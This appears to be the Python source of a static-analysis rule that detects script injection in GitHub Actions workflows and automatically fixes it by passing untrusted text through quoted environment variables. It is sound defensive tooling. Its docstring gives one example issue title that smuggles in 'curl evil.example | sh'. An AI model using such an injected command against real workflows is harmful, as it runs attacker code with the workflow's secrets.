"""A workflow puts text from strangers into a script.

What it does
    Looks at the scripts of workflows and composite actions of GitHub (``run:``, and ``script:`` of ``actions/github-script``) for expressions
    such as ``${{ github.event.issue.title }}`` and ``${{ github.head_ref }}``, also when they come by way of ``env``.

Why is this bad
    The expression is replaced before a shell sees the script, so that a title like ``"; curl evil.example | sh; "`` becomes commands. They run with
    the token and the secrets of the workflow, and anybody can open an issue or a pull request.

What to do
    Give the text to the script in an environment variable, and use the variable in quotes.

Known misses
    Outputs of other steps and inputs of workflows and actions, which may carry such text as well. Text that is only compared, or asked with
    ``contains`` and its like, is harmless.

Example
    Before::

        - run: echo "${{ github.event.issue.title }}"

    After::

        - env:
            ISSUE_TITLE: ${{ github.event.issue.title }}
          run: echo "$ISSUE_TITLE"
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from assay.rules.api import (
    CannotEdit,
    CodeEditor,
    Confidence,
    Document,
    Ease,
    Evidence,
    Fixed,
    Match,
    Report,
    Rule,
    Safety,
    Severity,
    TechnicalImpact,
    nodes,
    on_document,
)
from assay.rules.deployment import _quoting
from assay.rules.deployment._documents import entry_of, pairs
from assay.rules.deployment._workflows import (
    EXPRESSION,
    PRIVILEGED,
    Step,
    code_entry,
    events,
    open_entrance,
    steps,
    untrusted,
    untrusted_environment,
    variable_for,
)

RULE = Rule(
    id="workflow-injection",
    title="Text from strangers becomes code of a workflow",
    cwe=94,
    severity=Severity.HIGH,
    message="A stranger decides what this workflow runs, because the text is put into the script before it is read.",
    advice="Give the text to the script in an environment variable, and use the variable in quotes.",
    on=(on_document("github-workflow", "github-action"),),
    impact=TechnicalImpact.TAKEOVER,
    ease=Ease.REQUEST,
    automatable=True,
    languages=("yaml",),
    fix_safety=Safety.SAFE,
    also_cwe=(78, 77),
    stop_ship="always",
)

_EXPRESSION = re.compile(EXPRESSION.pattern.encode())


def find(document: Document) -> Iterator[Report]:
    """Report each line of a script that holds such an expression."""
    for step in steps(document):
        code = code_entry(step)
        if code is None:
            continue
        environment = untrusted_environment(step)
        lines: set[int] = set()
        causes = events(step.root)
        for place, inside in _expressions(document, code[0].value):
            part = untrusted(inside, environment)
            line = document.text.count(b"\n", 0, place.start)
            if not part or line in lines:
                continue
            lines.add(line)
            is_open = bool(causes & PRIVILEGED) or document.format == "github-action"
            yield Report(
                Confidence.HIGH,
                f"A stranger decides what this script runs: “{part}” is put into it before it is read. "
                "Pass it in an environment variable instead.",
                Evidence.FLOW if is_open else Evidence.SINK,
                place,
                open_entrance(causes),
            )


def _expressions(document: Document, value: nodes.Expression) -> Iterator[tuple[nodes.Node, str]]:
    """Yield the expressions in a text with their places."""
    raw = document.text[value.start : value.end]
    for found in _EXPRESSION.finditer(raw):
        place = nodes.Constant(value.start + found.start(), value.start + found.end(), None)
        yield place, found[1].decode("utf-8", "replace").strip()


def fix(match: Match, code: CodeEditor) -> Fixed:
    """Move the expressions of the line into the environment of the step."""
    document = match.document
    if document is None:
        raise CannotEdit("there is no document")
    step, entry, shell = _step_at(document, match.node.start)
    environment = untrusted_environment(step)
    line_end = document.text.find(b"\n", match.node.start)
    known = {name: _written(document, item) for name, item in pairs(_environment_of(step))}
    added: dict[str, str] = {}
    for place, inside in _expressions(document, entry.value):
        part = untrusted(inside, environment)
        if not part or place.start < match.node.start or (line_end >= 0 and place.start > line_end):
            continue
        if part.startswith("env."):
            name = part.removeprefix("env.")
        else:
            name, written = variable_for(part), document.source_text(place)
            while known.get(name, written) != written:
                name += "_TEXT"
            if name not in known:
                known[name] = added[name] = written
        start, end, text = _quoting.use_variable(document.text, entry.value, place, name, shell)
        code.replace(nodes.Constant(start, end, None), text)
    if added:
        _add_environment(document, step, entry, added, code)
    names = ", ".join(added) or "the variable"
    return Fixed(f"Pass the text in the environment ({names})")


def _step_at(document: Document, place: int) -> tuple[Step, nodes.Entry, str]:
    for step in steps(document):
        code = code_entry(step)
        if code is not None and code[0].value.start <= place < code[0].value.end:
            return step, code[0], code[1]
    raise CannotEdit("the step is gone")


def _environment_of(step: Step) -> nodes.Expression | None:
    entry = entry_of(step.mapping, "env")
    return entry.value if entry is not None else None


def _written(document: Document, entry: nodes.Entry) -> str:
    return document.source_text(entry.value)


def _add_environment(
    document: Document, step: Step, entry: nodes.Entry, added: dict[str, str], code: CodeEditor
) -> None:
    """Add variables to the environment of a step."""
    known = _environment_of(step)
    ending = "\r\n" if b"\r\n" in document.text else "\n"
    if isinstance(known, nodes.Mapping) and known.entries:
        if document.text[known.start : known.start + 1] == b"{":
            raise CannotEdit("the environment is written in one line")
        column = _column(document, known.entries[0].start)
        lines = "".join(f"{ending}{' ' * column}{name}: {value}" for name, value in added.items())
        place = known.entries[-1].value.end
        end = document.text.find(b"\n", place)
        rest = document.text[place : end if end >= 0 else len(document.text)].rstrip(b"\r")
        if rest.strip() and not rest.strip().startswith(b"#"):
            raise CannotEdit("something stands behind the last variable")
        place += len(rest) if known.entries[-1].value.start != known.entries[-1].value.end else 0
        code.replace(nodes.Constant(place, place, None), lines)
        return
    if known is not None:
        raise CannotEdit("the environment is no list of variables")
    if document.text[step.mapping.start : step.mapping.start + 1] == b"{":
        raise CannotEdit("the step is written in one line")
    anchor = next((item for _, item in pairs(step.mapping) if item.start <= entry.start < item.end), entry)
    column = _column(document, anchor.start)
    inner = ending + " " * (column + 2)
    lines = "env:" + "".join(f"{inner}{name}: {value}" for name, value in added.items())
    code.replace(nodes.Constant(anchor.start, anchor.start, None), lines + ending + " " * column)


def _column(document: Document, place: int) -> int:
    return place - (document.text.rfind(b"\n", 0, place) + 1)
